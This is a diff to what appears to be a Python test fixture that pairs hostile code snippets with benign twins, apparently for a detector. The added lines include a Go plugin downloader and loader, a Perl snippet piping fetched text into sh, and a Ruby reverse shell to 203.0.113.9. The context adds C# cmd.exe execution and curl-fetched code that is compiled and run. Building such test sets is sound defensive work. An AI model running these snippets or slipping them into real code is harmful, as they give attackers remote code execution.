@@ -153,6 +153,18 @@ LOST = [
         program("a.cs", f'string c = Ask("{URL}");\nProcess.Start("cmd.exe", $"/c {{c}}");\n'),
         program("a.cs", f'string c = Ask("{URL}");\nProcess.Start("cmd.exe", "/c dir");\n'),
     ),
+    (
+        program("a.go", f'r, _ := http.Get("{URL}")\nio.Copy(f, r.Body)\nplugin.Open("/tmp/p.so")\n'),
+        program("a.go", f'r, _ := http.Get("{URL}")\nio.Copy(f, r.Body)\nos.Open("/tmp/p.csv")\n'),
+    ),
+    (
+        program("a.pl", f'my $b = get_it("{URL}");\nopen(my $p, "|-", "sh");\nprint $p $b;\n'),
+        program("a.pl", f'my $b = get_it("{URL}");\nopen(my $p, "|-", "less");\nprint $p $b;\n'),
+    ),
+    (
+        program("a.rb", 'c = TCPSocket.open("203.0.113.9", 443)\nc.each_line { |l| c.puts `#{l}` }\n'),
+        program("a.rb", 'c = TCPSocket.open("203.0.113.9", 443)\nc.each_line { |l| puts l }\n'),
+    ),
     (steps(f'gcc -x c - -o /tmp/a <<< "$(curl -s {URL})" && /tmp/a'),
      steps(f"curl -s {URL} -o a.csv; gcc main.c -o main && ./main")),
 ]  # fmt: skip
